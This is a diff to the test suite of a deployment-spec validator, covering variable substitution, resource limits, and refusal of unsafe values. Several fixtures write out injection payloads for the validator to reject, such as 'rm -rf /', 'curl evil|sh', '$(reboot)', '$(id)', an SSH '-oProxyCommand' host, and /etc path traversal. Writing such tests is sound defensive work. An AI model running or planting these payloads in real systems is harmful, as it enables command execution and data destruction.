@@ -9,6 +9,7 @@ import {
   type Code,
   type Diagnostic,
   formatDiagnostic,
+  hasControl,
   LIMITS,
   loadSpecFile,
   loadSpecText,
@@ -283,10 +284,15 @@ describe('${VAR}', () => {
     assert.equal(image({ FALLBACK: 'v2' }), 'shop:v2');
     assert.equal(image({ TAG: 'v3' }), 'shop:v3');
     assert.equal(image({ TAG: '' }), 'shop:latest');
-    const unset = BASE.replace('image: shop:1', 'image: shop:${TAG-none}');
-    assert.equal(loadSpecText('s', unset, { TAG: '' }).spec?.projects[0]?.services[0]?.image, 'shop:');
-    assert.equal(loadSpecText('s', unset, {}).spec?.projects[0]?.services[0]?.image, 'shop:none');
-    assert.deepEqual(codes(BASE.replace('image: shop:1', () => 'image: shop:$${TAG}x')), []);
+    const unset = BASE.replace('image: shop:1', 'image: shop:1\n        env: { V: "x${TAG-none}" }');
+    assert.equal(loadSpecText('s', unset, { TAG: '' }).spec?.projects[0]?.services[0]?.env.V, 'x');
+    assert.equal(loadSpecText('s', unset, {}).spec?.projects[0]?.services[0]?.env.V, 'xnone');
+    const literal = loadSpecText(
+      's',
+      BASE.replace('image: shop:1', () => 'image: shop:1\n        env: { V: "$${TAG}x" }'),
+      {},
+    );
+    assert.equal(literal.spec?.projects[0]?.services[0]?.env.V, '${TAG}x');
   });
 
   it('an unclosed ${ and a reference that is not a name are errors, never literal text', () => {
@@ -294,5 +300,164 @@ describe('${VAR}', () => {
     refused(BASE.replace('image: shop:1', 'image: shop:${TAG:-${X}'), 'SC0203', 'shop:${TAG');
     refused(BASE.replace('image: shop:1', 'image: shop:${1TAG}'), 'SC0202', 'shop:${1TAG}');
     refused(BASE.replace('image: shop:1', 'image: shop:${TAG:?required}'), 'SC0202', 'shop:${TAG');
+  });
+});
+
+describe('values that validated and then broke something', () => {
+  it('a shared network too small for the shared stack', () => {
+    refused(
+      BASE.replace('projects:\n  shop', 'network: { shared: 172.19.0.0/32 }\nprojects:\n  shop'),
+      'SC0507',
+      'network:',
+    );
+    assert.deepEqual(
+      codes(BASE.replace('projects:\n  shop', 'network: { shared: 172.19.0.0/28 }\nprojects:\n  shop')),
+      [],
+    );
+  });
+
+  it('the same port for http and https', () => {
+    refused(
+      BASE.replace('  domain: example.test', '  domain: example.test\n  listen: { http: 9443, https: 9443 }'),
+      'SC0506',
+      'listen',
+    );
+  });
+
+  it('a rate limit nginx cannot hold, and an absurd burst', () => {
+    const proxy = (p: string) =>
+      BASE.replace('projects:\n  shop', `shared:\n  proxy: { ${p} }\nprojects:\n  shop`);
+    refused(proxy('rateLimit: 1/h'), 'SC0310', 'rateLimit');
+    refused(proxy('rateLimit: 99999999999/s'), 'SC0310', 'rateLimit');
+    refused(proxy('rateLimit: 10/s, burst: 100000000000'), 'SC0305', 'burst');
+    assert.deepEqual(codes(proxy('rateLimit: 60/h')), []);
+  });
+
+  it('zero or absurd durations for health checks and retention', () => {
+    const web = (line: string) => BASE.replace('        uses: [db]', `        uses: [db]\n        ${line}`);
+    refused(web('health: { interval: 0s }'), 'SC0309', 'interval');
+    refused(web('health: { timeout: 1000000d }'), 'SC0309', 'timeout');
+    const prometheus = (r: string) =>
+      BASE.replace(
+        'projects:\n  shop',
+        `shared:\n  monitoring:\n    prometheus: { retention: ${r} }\nprojects:\n  shop`,
+      );
+    refused(prometheus('0s'), 'SC0309', 'retention');
+    refused(prometheus('100000d'), 'SC0309', 'retention');
+    assert.deepEqual(codes(prometheus('30d')), []);
+  });
+
+  it('volume names that are paths', () => {
+    for (const name of ['/etc', '../../etc', '.', 'a b']) {
+      refused(
+        BASE.replace('        uses: [db]', `        uses: [db]\n        volumes: { "${name}": /data }`),
+        'SC0308',
+        'volumes',
+      );
+    }
+    refused(
+      BASE.replace('        uses: [db]', '        uses: [db]\n        volumes: { media: /app/../../etc }'),
+      'SC0308',
+      'volumes',
+    );
+    assert.deepEqual(
+      codes(BASE.replace('        uses: [db]', '        uses: [db]\n        volumes: { media: /app/media }')),
+      [],
+    );
+  });
+
+  it('image references, versions and secret names no engine or store accepts', () => {
+    // The service then has no image either (SC0707): the rules still run on what is left.
+    const image = (ref: string, code: Code) => {
+      const ds = diagnose(BASE.replace('image: shop:1', () => `image: ${ref}`));
+      assert.deepEqual(
+        ds.map((d) => d.code).filter((c) => c !== 'SC0707'),
+        [code],
+        ds.map(formatDiagnostic).join('\n'),
+      );
+    };
+    image('"shop:1\\nFROM evil"', 'SC0308');
+    image(`shop${'x'.repeat(100_000)}`, 'SC0904');
+    image('"Shop Web"', 'SC0308');
+    refused(
+      BASE.replace('        type: postgres', '        type: postgres\n        version: "15; rm -rf /"'),
+      'SC0308',
+      'rm -rf',
+    );
+    refused(
+      BASE.replace('        uses: [db]', `        uses: [db]\n        secrets: [${'A'.repeat(200)}]`),
+      'SC0305',
+      'secrets',
+    );
+    refused(
+      BASE.replace('        uses: [db]', '        uses: [db]\n        secrets: ["A\\nB"]'),
+      'SC0307',
+      'secrets',
+    );
+    for (const image of [
+      'registry.example.com:5000/shop/web:1.4',
+      'ghcr.io/a/b@sha256:' + 'a'.repeat(64),
+      'shop',
+    ]) {
+      assert.deepEqual(codes(BASE.replace('image: shop:1', `image: ${image}`)), [], image);
+    }
+  });
+});
+
+describe('nothing from the spec reaches a shell or a config unquoted', () => {
+  it('paths, URL paths and hosts outside a safe alphabet are refused where they stand', () => {
+    refused(
+      BASE.replace('  domain: example.test', '  domain: example.test\n  backupDir: /opt/b"$(reboot)"'),
+      'SC0308',
+      'backupDir',
+    );
+    const web = (line: string) => BASE.replace('        uses: [db]', `        uses: [db]\n        ${line}`);
+    refused(web('health: { path: "/h; curl evil|sh" }'), 'SC0308', 'health');
+    refused(web('health: { path: "/h$(id)" }'), 'SC0308', 'health');
+    refused(web('routes: [{ path: "/a { return 200; }" }]'), 'SC0308', 'routes');
+    refused(web('build: { context: "ctx$(id)" }').replace('        image: shop:1\n', ''), 'SC0308', 'build');
+    refused(
+      BASE.replace('  domain: example.test', '  domain: example.test\n  host: ssh://-oProxyCommand=id@x'),
+      'SC0307',
+      'host:',
+    );
+    refused(
+      BASE.replace('  domain: example.test', '  domain: example.test\n  host: "ssh://u@h;id"'),
+      'SC0307',
+      'host:',
+    );
+    assert.deepEqual(
+      codes(
+        BASE.replace(
+          '  domain: example.test',
+          '  domain: example.test\n  host: ssh://deploy@staging.example.com:2222',
+        ),
+      ),
+      [],
+    );
+  });
+});
+
+describe('output hygiene', () => {
+  it('control characters from the spec are shown escaped, never raw', () => {
+    const text = BASE.replace('        uses: [db]', '        uses: [db]\n        "evil\\e[2J\\0key": 1');
+    const d = refused(text, 'SC0301');
+    const shown = formatDiagnostic(d);
+    assert.equal(hasControl(shown.replace(/\n/g, ' ')), false, shown);
+    assert.match(shown, /\\x1b\[2J\\x00/);
+  });
+
+  it('NaN and infinity are named, never "expected a number, got a number"', () => {
+    const d = refused(
+      BASE.replace('        uses: [db]', '        uses: [db]\n        replicas: .nan'),
+      'SC0303',
+      'replicas',
+    );
+    assert.doesNotMatch(d.message, /got a number/);
+    assert.match(d.message, /\.nan/);
+    assert.match(
+      refused(BASE.replace('        uses: [db]', '        uses: [db]\n        port: .inf'), 'SC0303').message,
+      /\.inf/,
+    );
   });
 });
